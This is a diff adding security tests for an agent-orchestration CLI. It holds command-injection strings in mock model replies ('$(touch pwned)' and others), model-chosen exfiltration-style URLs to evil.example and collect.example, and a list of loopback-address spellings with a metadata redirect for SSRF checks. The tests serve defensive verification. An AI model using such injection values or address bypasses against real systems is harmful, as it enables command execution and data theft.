@@ -68,7 +68,7 @@ class SecurityTest {
                 String key = isOpenAi ? "" : ", api_key_env: \"" + anyVariable() + "\"";
                 Path caught = modelScript(server, provider, key,
                         "  try { a(\"hi\") } catch server as e { print \"caught: {e.message}\" }");
-                CliRun r = CliRun.of("run", "-q", "--no-store", caught.toString());
+                CliRun r = CliRun.of("run", "-q", "--no-store", "--allow", "env:" + anyVariable(), caught.toString());
                 clean(r);
                 assertThat(r.exitCode()).as(r.stderr()).isZero();
                 assertThat(r.stdout()).startsWith("caught: model 'm' (" + provider + "): sent a reply without "
@@ -76,7 +76,8 @@ class SecurityTest {
 
                 Path store = dir.resolve(provider + ".db");
                 Path uncaught = modelScript(server, provider, key, "  retry 2 backoff 1ms { x = a(\"hi\") }");
-                CliRun failed = CliRun.of("run", "-q", "--store", store.toString(), uncaught.toString());
+                CliRun failed = CliRun.of("run", "-q", "--store", store.toString(), "--allow", "env:" + anyVariable(),
+                        uncaught.toString());
                 clean(failed);
                 assertThat(failed.exitCode()).isEqualTo(1);
                 assertThat(failed.stderr()).contains("sent a reply without");
@@ -201,6 +202,70 @@ class SecurityTest {
         assertThat(r.stdout()).as(r.stderr()).isEqualTo("ab\n");
     }
 
+    // ---- 4: text a model produced never becomes a shell command or an http host -------------------------------
+
+    @Test
+    void item4_aReplyInterpolatedIntoShTextIsRefusedAtCheckAndRunUnlessTrusted() throws IOException {
+        for (String reply : List.of("Bob; touch pwned #", "`touch pwned`", "$(touch pwned)")) {
+            Path file = script("s.orch", "model m = mock(rules: { \"name\": \"" + reply + "\" })\n"
+                    + "agent a { model: m }\n"
+                    + "workflow main() {\n  r = a(\"Your name?\")\n  print sh(\"echo hello {r}\")\n}\n");
+            CliRun check = CliRun.of("check", "--allow", "shell", file.toString());
+            clean(check);
+            assertThat(check.exitCode()).as(reply).isEqualTo(2);
+            assertThat(check.stderr()).contains("s.orch:5:12: error: sh() would run text a model produced as a shell "
+                    + "command: the reply of agent 'a' at 4:7", "sh([\"program\", arg])");
+            CliRun run = CliRun.of("run", "-q", "--no-store", "--allow", "shell", file.toString());
+            assertThat(run.exitCode()).isEqualTo(2);
+            assertThat(folder.resolve("pwned")).doesNotExist();
+            CliRun plan = CliRun.of("plan", file.toString());
+            assertThat(plan.exitCode()).isEqualTo(2);
+        }
+        Path trusted = script("t.orch", """
+                model m = mock(rules: { "name": "Bob" })
+                agent a { model: m }
+                workflow main() {
+                  r = a("Your name?")
+                  print sh("echo hello {r}")
+                  print sh(["echo", "list:", r])
+                }
+                """);
+        CliRun run = CliRun.of("run", "-q", "--no-store", "--allow", "shell", "--trust-model-output", trusted.toString());
+        assertThat(run.exitCode()).as(run.stderr()).isZero();
+        assertThat(run.stdout()).isEqualTo("hello Bob\n\nlist: Bob\n\n");
+    }
+
+    @Test
+    void item4_aModelPicksNoHostAndCodeThatRunGeneratesRunsNoShellText() throws IOException {
+        Path file = script("s.orch", """
+                model m = mock(rules: { "site": "evil.example" })
+                agent a { model: m }
+                workflow main() {
+                  host = a("Which site?")
+                  print http("https://{host}/collect")
+                }
+                """);
+        CliRun check = CliRun.of("check", "--allow", "net", file.toString());
+        assertThat(check.exitCode()).isEqualTo(2);
+        assertThat(check.stderr()).contains("error: the host of this http() URL would come from text a model produced");
+
+        Path generated = script("g.orch", """
+                workflow main() {
+                  try {
+                    run("workflow main() \\{ print sh(\\"touch pwned\\") }")
+                  } catch bad_output as e { print "refused: {e.message}" }
+                }
+                """);
+        CliRun refused = CliRun.of("run", "-q", "--no-store", "--allow", "shell", generated.toString());
+        assertThat(refused.exitCode()).as(refused.stderr()).isZero();
+        assertThat(refused.stdout()).contains("refused: ", "sh() would run text a model produced as a shell command: "
+                + "a string in the source run() compiled (a model may have written it)");
+        assertThat(folder.resolve("pwned")).doesNotExist();
+        CliRun trusted = CliRun.of("run", "-q", "--no-store", "--allow", "shell", "--trust-model-output", generated.toString());
+        assertThat(trusted.exitCode()).as(trusted.stderr()).isZero();
+        assertThat(folder.resolve("pwned")).exists();
+    }
+
     // ---- 5: a plan file does not choose its own sandbox ---------------------------------------------------------
 
     @Test
@@ -264,6 +329,172 @@ class SecurityTest {
     }
 
     // ---- 9: NUL bytes ---------------------------------------------------------------------------------------------
+
+    // ---- 7: --allow net is a boundary -----------------------------------------------------------------------
+
+    @Test
+    void item7_aModelAtAHostOfTheScriptsChoosingOrWithANonCredentialKeyNeedsAGrant() throws IOException {
+        Path file = script("s.orch", """
+                model m = openai("x", base_url: "http://collect.example:18080/collect?", api_key_env: "HOME")
+                agent a { model: m }
+                workflow main() {
+                  print a(read("notes.txt"))
+                }
+                """);
+        Files.writeString(folder.resolve("notes.txt"), "private notes");
+        CliRun run = CliRun.of("run", "-q", "--no-store", file.toString());
+        clean(run);
+        assertThat(run.exitCode()).isEqualTo(2);
+        assertThat(run.stderr()).contains("error: model 'm' sends its prompts to collect.example, which is neither openai's "
+                + "own host nor a loopback address: that needs `--allow net:collect.example`",
+                "error: model 'm' would send the environment variable HOME as its API key, and it does not look like a "
+                + "credential (a name ending in _KEY, _TOKEN, _SECRET or PASSWORD): that needs `--allow env:HOME`");
+        CliRun check = CliRun.of("check", file.toString());
+        assertThat(check.exitCode()).as("orch check warns, as for sh without --allow shell").isZero();
+        assertThat(check.stderr()).contains("warning: model 'm' sends its prompts to collect.example");
+        CliRun granted = CliRun.of("plan", "--allow", "net:collect.example", "--allow", "env:HOME", file.toString());
+        assertThat(granted.exitCode()).as(granted.stderr()).isZero();
+        assertThat(granted.stdout()).contains("at http://collect.example:18080/collect?");
+
+        Path local = script("l.orch", """
+                model here = ollama("llama3", base_url: "http://127.0.0.1:11434/v1")
+                model named = openai("gpt-4o", base_url: "https://api.openai.com/v1", api_key_env: "WORK_OPENAI_KEY")
+                agent a { model: here }
+                agent b { model: named }
+                workflow main() { print a("hi") + b("hi") }
+                """);
+        CliRun fine = CliRun.of("plan", local.toString());
+        assertThat(fine.exitCode()).as("loopback and the provider's own host need no grant: " + fine.stderr()).isZero();
+
+        Path plan = folder.resolve("s.plan.json");
+        CliRun compiled = CliRun.of("compile", "--allow", "net:collect.example", "--allow", "env:HOME", file.toString(),
+                "-o", plan.toString());
+        assertThat(compiled.exitCode()).as(compiled.stderr()).isZero();
+        CliRun planRun = CliRun.of("run", "-q", "--no-store", plan.toString());
+        assertThat(planRun.exitCode()).as("a plan compiled with the grants still needs them to run").isEqualTo(2);
+        assertThat(planRun.stderr()).contains("needs `--allow net:collect.example`", "nothing was run");
+    }
+
+    @Test
+    void item7_httpReachesNoInternalAddressInAnySpellingOrThroughARedirectWithoutNamingIt() throws IOException {
+        try (LoopbackServer inside = LoopbackServer.json("{\"secret\": \"metadata\"}");
+             LoopbackServer bounce = LoopbackServer.redirect("http://localhost:" + port(inside) + "/latest/meta-data")) {
+            int p = port(inside);
+            List<String> spellings = List.of("127.0.0.1", "localhost", "0.0.0.0", "2130706433", "127.1", "[::1]",
+                    "[::ffff:127.0.0.1]");
+            StringBuilder body = new StringBuilder();
+            for (String host : spellings) {
+                body.append("  try { print http(\"http://").append(host).append(":").append(p)
+                        .append("/\") } catch tool as e { print \"refused {e.message}\" }\n");
+            }
+            body.append("  try { print http(\"http://127.0.0.1:").append(port(bounce))
+                    .append("/go\") } catch tool as e { print \"refused {e.message}\" }\n");
+            Path file = script("s.orch", "workflow main() {\n" + body + "}\n");
+            CliRun r = CliRun.of("run", "-q", "--no-store", "--allow", "net", file.toString());
+            clean(r);
+            assertThat(r.exitCode()).as(r.stderr()).isZero();
+            List<String> lines = r.stdout().lines().filter(l -> !l.isBlank()).toList();
+            assertThat(lines).hasSize(spellings.size() + 1).allSatisfy(l -> assertThat(l).startsWith("refused GET http://"));
+            assertThat(lines.get(0)).contains("127.0.0.1 is a loopback address; only --allow net:127.0.0.1 lets a script reach it");
+            assertThat(lines.get(2)).contains("is the unspecified address (this machine)");
+            assertThat(inside.requests()).as("nothing reached the internal server").isZero();
+            assertThat(bounce.requests()).isZero();
+
+            CliRun named = CliRun.of("run", "-q", "--no-store", "--allow", "net", "--allow", "net:127.0.0.1", file.toString());
+            List<String> granted = named.stdout().lines().filter(l -> !l.isBlank()).toList();
+            assertThat(granted.get(0)).isEqualTo("{\"secret\": \"metadata\"}");
+            assertThat(granted.get(1)).startsWith("refused ").contains("localhost");
+            assertThat(granted.get(granted.size() - 1)).as("the redirect's hop to localhost is checked on its own")
+                    .startsWith("refused ").contains("localhost (127.0.0.1) is a loopback address");
+            assertThat(bounce.requests()).isEqualTo(1);
+            // [::ffff:127.0.0.1] is 127.0.0.1 written as IPv6: the URL's host is 127.0.0.1 itself, which is granted.
+            assertThat(granted.get(spellings.indexOf("[::ffff:127.0.0.1]"))).isEqualTo("{\"secret\": \"metadata\"}");
+            assertThat(granted).as(named.stdout()).filteredOn(l -> l.startsWith("refused")).hasSize(spellings.size() - 1);
+            assertThat(inside.requests()).as("only the granted 127.0.0.1 reached it").isEqualTo(2);
+        }
+    }
+
+    private static int port(LoopbackServer server) {
+        String url = server.baseUrl();
+        return Integer.parseInt(url.substring(url.lastIndexOf(':') + 1, url.indexOf("/v1")));
+    }
+
+    // ---- 13: the smaller findings ----------------------------------------------------------------------------
+
+    @Test
+    void item13_argsAreReadAsTheLanguageWritesDurationsAndFiniteNumbers() throws IOException {
+        Path file = script("s.orch", "workflow main(d: duration, n: number) {\n  print d == 2s\n  print n * 2\n}\n");
+        CliRun ok = CliRun.of("run", "-q", "--no-store", file.toString(), "--arg", "d=2s", "--arg", "n=1.5");
+        assertThat(ok.exitCode()).as(ok.stderr()).isZero();
+        assertThat(ok.stdout()).isEqualTo("true\n3\n");
+        for (String bad : List.of("d=5x", "d=2", "n=NaN", "n=1e999", "n=Infinity", "n=0x10", "n=5d")) {
+            String other = bad.startsWith("d=") ? "n=1" : "d=1s";
+            CliRun r = CliRun.of("run", "-q", "--no-store", file.toString(), "--arg", bad, "--arg", other);
+            clean(r);
+            assertThat(r.exitCode()).as(bad).isEqualTo(2);
+            assertThat(r.stderr()).as(bad).contains("--arg " + bad + ": '" + bad.substring(0, 1) + "' is a "
+                    + (bad.startsWith("d=") ? "duration; give it as 30s, 250ms, 1.5m or 2h" : "number; give it as a finite number"));
+        }
+    }
+
+    @Test
+    void item13_oldMacLineEndingsAreLineBreaks() throws IOException {
+        Path file = folder.resolve("cr.orch");
+        Files.writeString(file, "workflow main() {\r  x = 1\r  print x + 1\r}\r");
+        CliRun r = CliRun.of("run", "-q", "--no-store", file.toString());
+        assertThat(r.exitCode()).as(r.stderr()).isZero();
+        assertThat(r.stdout()).isEqualTo("2\n");
+    }
+
+    @Test
+    void item13_aDamagedStoreAmongTheRecordedOnesIsSkippedWithAWarning() throws IOException {
+        Path good = dir.resolve("good/runs.db");
+        Path script = script("s.orch", "workflow main() { print 1 }\n");
+        assertThat(CliRun.of("run", "-q", "--store", good.toString(), script.toString()).exitCode()).isZero();
+        Path bad = dir.resolve("bad/runs.db");
+        Files.createDirectories(bad.getParent());
+        Files.writeString(bad, "this is not a database, only some text that is long enough to be read as a header".repeat(20));
+        StoreRegistry.remember(bad);
+        CliRun runs = CliRun.of("runs", "--all");
+        assertThat(runs.exitCode()).as(runs.stderr()).isZero();
+        assertThat(runs.stdout()).contains("s.orch");
+        assertThat(runs.stderr()).contains("orch: warning: skipping a store: ");
+        CliRun named = CliRun.of("runs", "--store", bad.toString());
+        assertThat(named.exitCode()).as("the store the user names must work").isEqualTo(2);
+    }
+
+    // ---- 8: a key echoed in a reply is redacted before anything stores or prints it ------------------------
+
+    @Test
+    void item8_aKeyEchoedInAReplyReachesNeitherStdoutNorWrittenFilesNorTheStore() throws Exception {
+        String key = "sk-echo-" + "Q7w9ErTy3uIoP1aSdF5g";
+        String reply = "{\"choices\":[{\"index\":0,\"message\":{\"content\":\"Your key is " + key
+                + ", keep it safe\"},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":3,\"completion_tokens\":5}}";
+        try (LoopbackServer server = LoopbackServer.json(reply)) {
+            Path file = modelScript(server, "openai", ", api_key_env: \"ORCH_ECHO_KEY\"", """
+                      r = a("What is my key?")
+                      print r
+                      write("out.txt", r)
+                    """);
+            Path store = folder.resolve(".orch/runs.db");
+            List<String> command = ResumeTest.orch("run", "-q", "--cache", "--store", store.toString(), file.toString());
+            ProcessBuilder pb = CliRun.process(command).directory(folder.toFile());
+            pb.environment().put("ORCH_ECHO_KEY", key);
+            Path out = dir.resolve("echo.out");
+            Process p = pb.redirectOutput(out.toFile()).redirectError(dir.resolve("echo.err").toFile()).start();
+            assertThat(p.waitFor(60, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
+            assertThat(p.exitValue()).as(Files.readString(dir.resolve("echo.err"))).isZero();
+            assertThat(Files.readString(out)).isEqualTo("Your key is [key from ORCH_ECHO_KEY], keep it safe\n");
+            assertThat(Files.readString(folder.resolve("out.txt"))).isEqualTo("Your key is [key from ORCH_ECHO_KEY], keep it safe");
+            java.io.ByteArrayOutputStream stored = new java.io.ByteArrayOutputStream();
+            try (var files = Files.list(store.getParent())) {
+                for (Path f : files.toList()) stored.write(Files.readAllBytes(f));
+            }
+            String bytes = stored.toString(StandardCharsets.ISO_8859_1);
+            assertThat(bytes).as("the call and its cached reply are stored").contains("[key from ORCH_ECHO_KEY]");
+            assertThat(bytes).doesNotContain(key);
+        }
+    }
 
     @Test
     void item9_aNulInAStringIsADiagnosticAndANulInAPathIsACatchableFail() throws IOException {
